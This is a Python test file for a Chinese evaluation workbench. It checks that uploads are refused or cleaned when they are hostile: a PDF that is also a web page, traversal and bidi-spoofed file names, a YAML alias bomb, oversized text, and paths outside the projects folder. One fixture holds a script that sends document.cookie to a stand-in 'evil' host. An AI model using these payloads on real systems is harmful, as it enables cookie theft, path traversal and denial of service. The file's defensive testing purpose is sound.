"""Hostile input through the services, on a real SQLite file: polyglot evidence, odd upload names,
oversized text, uploads from someone not allowed to make them, and server paths outside the
projects folder.  Each ends in one Chinese message; nothing stored changes; refusals are audited."""

from __future__ import annotations

from pathlib import Path

import pytest
from actors import CLI, EVALUATOR, LEADER, UNIT, YIYANG, add_accounts, audit_rows, reopen

from workbench.bootstrap import ensure_database
from workbench.errors import READ_ONLY, Forbidden, InvalidInput, NotFound, explain
from workbench.services import case_upload, cases, catalog, evaluations, evidence, review
from workbench.storage.uow import Database, open_database

YIYANG_DIR = Path(__file__).resolve().parents[2] / "projects" / "yiyang-smart-brain-2018"

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
POLYGLOT = PDF + b"<html><body><script>fetch('//evil/'+document.cookie)</script></body></html>"
ALIAS_BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"


@pytest.fixture
def db(tmp_path, database_templates) -> Database:
    url = f"sqlite:///{tmp_path / 'workbench.db'}"
    database_templates.copy(url, seed=True)
    found = ensure_database(url)
    reopen(found)
    add_accounts(found, UNIT, LEADER)
    yield found
    found.dispose()


def stored_state(db: Database) -> tuple:
    """What a user could notice changed: evaluations, their scores, the indicator systems."""
    listed = evaluations.list_evaluations(db.uow(), CLI)
    case = evaluations.get_case(db.uow(), CLI, YIYANG).case
    systems = catalog.list_systems(db.uow(), CLI)
    return [(e.id, e.status, e.total) for e in listed], case.evaluation.scores, [s.id for s in systems]


def test_a_pdf_that_is_also_a_web_page_is_refused_and_the_refusal_audited(db):
    before = stored_state(db)

    with pytest.raises(InvalidInput) as refused:
        evidence.upload_evidence(db.uow(), UNIT, YIYANG, "B21", "合同.pdf", POLYGLOT)

    assert refused.value.messages == [
        "文件 合同.pdf：文件中含有网页或脚本内容（<html），可能是伪装的文件，已拒绝"
    ]
    assert evidence.list_evidence(db.uow(), UNIT, YIYANG) == []
    assert stored_state(db) == before
    assert audit_rows(db)[-1].event == "拒绝导入" and audit_rows(db)[-1].result == "失败"


@pytest.mark.parametrize(
    ("name", "stored"),
    [
        ("../../../etc/合同.pdf", "合同.pdf"),
        ("合\x00同.pdf", "合_同.pdf"),
        ("\u202efdp.exe", "fdp.pdf"),  # right-to-left override: looked like exe.pdf
        ("报" * 200 + ".pdf", "报" * 83 + ".pdf"),  # 600 bytes of name, cut to 255
        ("..", "证据材料.pdf"),
    ],
    ids=["dot-dot", "nul", "bidi", "over-255-bytes", "only-dots"],
)
def test_an_odd_evidence_name_is_stored_cleaned_never_crashing(db, name, stored):
    saved = evidence.upload_evidence(db.uow(), UNIT, YIYANG, "B21", name, PDF)

    assert saved.name == stored
    assert len(saved.name.encode()) <= 255


def test_odd_case_upload_names_are_refused_by_name_not_by_a_crash(db):
    files = [("x" * 300 + ".yaml", b"a: 1\n"), ("\u202elmay.evil", b"a: 1\n"), ("nul\x00.yaml", b"a: 1\n")]

    with pytest.raises(InvalidInput) as refused:
        case_upload.import_uploaded_case(db.uow(), EVALUATOR, files)

    assert len(refused.value.messages) == 3
    assert all("不是案例文件" in m for m in refused.value.messages)
    assert all("\x00" not in m and "\u202e" not in m for m in refused.value.messages)


def test_a_ten_megabyte_reason_is_refused_and_not_copied_into_the_audit_log(db):
    versions = evaluations.get_case(db.uow(), EVALUATOR, YIYANG).versions
    before, audit_before = stored_state(db), len(audit_rows(db))
    entry = {"deductions": [{"reason": "长" * 10_000_000, "points": 1}]}

    with pytest.raises(InvalidInput) as refused:
        evaluations.save_score(db.uow(), EVALUATOR, YIYANG, "B21", entry, versions.of_score("B21"))

    assert "过长（最多 2000 个字符）" in refused.value.messages[0]
    assert len(str(refused.value)) < 500
    assert stored_state(db) == before and len(audit_rows(db)) == audit_before


def test_a_ten_megabyte_workflow_reason_is_refused(db):
    version = evaluations.get_case(db.uow(), EVALUATOR, YIYANG).versions.evaluation.version

    with pytest.raises(InvalidInput, match="理由不能超过 2000 字"):
        review.move_to(db.uow(), EVALUATOR, YIYANG, "已提交", version, reason="x" * 10_000_000)


def test_a_case_upload_from_someone_who_may_not_create_is_refused_before_it_is_read(db, monkeypatch):
    opened = []
    monkeypatch.setattr(case_upload, "_read_upload", lambda *a: opened.append(a))

    with pytest.raises(Forbidden):
        case_upload.import_uploaded_case(db.uow(), LEADER, [("evaluation.yaml", ALIAS_BOMB.encode())])

    assert opened == []
    assert audit_rows(db)[-1].event == "越权操作"


def test_an_indicator_system_from_someone_who_may_not_create_is_refused_before_it_is_read(db):
    with pytest.raises(Forbidden):
        catalog.import_system(db.uow(), UNIT, ALIAS_BOMB * 1000, "体系.yaml")

    assert audit_rows(db)[-1].event == "越权操作"


def test_an_alias_bomb_uploaded_as_an_indicator_system_is_refused_naming_file_and_line(db):
    before = stored_state(db)

    with pytest.raises(InvalidInput) as refused:
        catalog.import_system(db.uow(), EVALUATOR, ALIAS_BOMB.encode(), "../体系.yaml")

    assert refused.value.messages == [
        "文件 体系.yaml，第 2 行：不支持锚点引用（“*名称”）：请把引用的内容直接写出"
    ]
    assert stored_state(db) == before
    assert audit_rows(db)[-1].event == "拒绝导入"


@pytest.mark.parametrize(
    "asked", ["/etc", "../tests", "/nonexistent/folder", "yiyang-smart-brain-2018/../.."]
)
def test_a_server_path_outside_the_projects_folder_gets_one_answer_that_reveals_nothing(db, asked):
    with pytest.raises(NotFound) as refused:
        cases.import_server_case(db.uow(), EVALUATOR, asked, evaluation_id="x")

    assert refused.value.messages == [
        f"案例文件夹 projects/ 中没有“{asked}”：只能从服务器的案例文件夹导入，其他位置的案例请打包为 .zip 上传"
    ]


def test_a_case_in_the_projects_folder_is_imported_by_its_name(db):
    imported = cases.import_server_case(
        db.uow(), EVALUATOR, "yiyang-smart-brain-2018", evaluation_id="by-name"
    )

    assert imported == "by-name"


@pytest.mark.postgres
def test_a_read_only_postgresql_database_is_named_as_such_and_keeps_what_it_has(postgres_url):
    import sqlalchemy as sa

    ensure_database(postgres_url).dispose()
    name = postgres_url.rsplit("/", 1)[1]
    admin = sa.create_engine(postgres_url.rsplit("/", 1)[0] + "/postgres", isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(sa.text(f'ALTER DATABASE "{name}" SET default_transaction_read_only = on'))
    admin.dispose()
    db = open_database(postgres_url)
    try:
        before = stored_state(db)
        with pytest.raises(Exception) as failed:
            cases.import_case(db.uow(), CLI, YIYANG_DIR, evaluation_id="again")

        assert explain(failed.value).messages == [READ_ONLY]
        assert stored_state(db) == before
    finally:
        db.dispose()
